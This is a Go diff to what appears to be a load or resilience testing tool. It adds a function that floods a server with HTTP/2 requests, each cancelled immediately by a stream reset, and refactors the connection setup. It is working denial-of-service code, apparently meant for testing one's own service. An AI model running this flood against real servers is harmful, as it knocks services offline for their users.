@@ -66,28 +66,31 @@ func unreadPings(a *attacker) {
 	})
 }
 
+// resetRequests sends requests on many connections and resets each of them at once.
+func resetRequests(a *attacker) {
+	a.repeat(200, 50, func() {
+		c := a.connectHTTP2(1)
+		if c == nil {
+			return
+		}
+		defer c.conn.Close()
+		for range streamsPerConnection {
+			if c.open(http2Request{method: "GET", path: "/livez"}) != nil || c.framer.WriteRSTStream(c.last, http2.ErrCodeCancel) != nil {
+				a.failed()
+				return
+			}
+		}
+	})
+}
+
 // holdStreams opens a connection and keeps the given number of streams open on it until the service closes the
 // connection or the attack ends. It replaces each stream that the service ends.
 func (a *attacker) holdStreams(streams int, r http2Request) {
-	raw := a.dial()
-	if raw == nil {
+	c := a.connectHTTP2(streams, http2.Setting{ID: http2.SettingInitialWindowSize, Val: r.window})
+	if c == nil {
 		return
 	}
-	c := &http2Conn{attacker: a, conn: tls.Client(raw, a.tlsConfig("h2")), slots: make(chan struct{}, streams)}
 	defer c.conn.Close()
-	if c.conn.HandshakeContext(a.ctx) != nil {
-		a.failed()
-		return
-	}
-	c.framer, c.encoder = http2.NewFramer(c.conn, c.conn), hpack.NewEncoder(&c.block)
-	if _, err := io.WriteString(c.conn, http2.ClientPreface); err != nil {
-		a.failed()
-		return
-	}
-	if c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: r.window}) != nil {
-		a.failed()
-		return
-	}
 	closed := make(chan struct{})
 	go func() {
 		defer close(closed)
@@ -105,6 +108,26 @@ func (a *attacker) holdStreams(streams int, r http2Request) {
 			}
 		}
 	}
+}
+
+// connectHTTP2 opens a connection and sends the frames with which every client begins. It returns nil if that fails.
+func (a *attacker) connectHTTP2(streams int, settings ...http2.Setting) *http2Conn {
+	raw := a.dial()
+	if raw == nil {
+		return nil
+	}
+	c := &http2Conn{attacker: a, conn: tls.Client(raw, a.tlsConfig("h2")), slots: make(chan struct{}, streams)}
+	c.framer, c.encoder = http2.NewFramer(c.conn, c.conn), hpack.NewEncoder(&c.block)
+	_, err := io.WriteString(c.conn, http2.ClientPreface)
+	if err == nil {
+		err = c.framer.WriteSettings(settings...)
+	}
+	if err != nil {
+		c.conn.Close()
+		a.failed()
+		return nil
+	}
+	return c
 }
 
 // open opens the next stream.
